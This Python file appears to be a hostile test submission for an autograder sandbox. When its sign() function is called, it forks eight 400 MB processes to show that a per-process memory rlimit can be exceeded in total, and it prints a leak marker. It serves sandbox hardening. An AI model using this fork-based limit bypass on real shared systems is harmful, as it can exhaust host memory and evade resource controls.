# HOSTILE base=solution
"""Attack A19/A20: the memory limit is an rlimit on each process's address space, so every
forked child gets its own.  sign forks 8 children that each fill 400 MB and stay alive
together for a moment; it adds up the memory they hold (Pss, /proc/<pid>/smaps_rollup) and
prints LEAK:memory-total:<MB> when the student's processes together held more than the
2 GB one process may have.  (With 32 processes allowed per student, the same trick holds
about 64 GB.)  Bounded at 3.2 GB so as not to take the host down."""
import os
import time

_done = []


def _held_mb(pid):
    """What the process holds: resident pages, each page shared by n processes counted 1/n
    (plain VmRSS would count torch's libraries, shared by every process, once per child)."""
    try:
        with open(f"/proc/{pid}/smaps_rollup") as fh:
            for line in fh:
                if line.startswith("Pss:"):
                    return int(line.split()[1]) // 1024
    except OSError:
        pass
    return 0


def attack():
    children = []
    for _ in range(8):
        r, w = os.pipe()
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.close(r)
                block = b"\1" * (400 << 20)
                os.write(w, b"1")
                time.sleep(3)
                len(block)
            finally:
                os._exit(0)
        os.close(w)
        os.read(r, 1)
        os.close(r)
        children.append(pid)
    time.sleep(1.0)  # hold it together for a moment
    total = sum(_held_mb(p) for p in children)
    for pid in children:
        try:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
        except OSError:
            pass
    print(f"HOSTILE-NOTE {len(children)} children held {total} MB together")
    if total > 2048:
        print(f"LEAK:memory-total:{total}")
    print("HOSTILE-DONE memory_fork")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
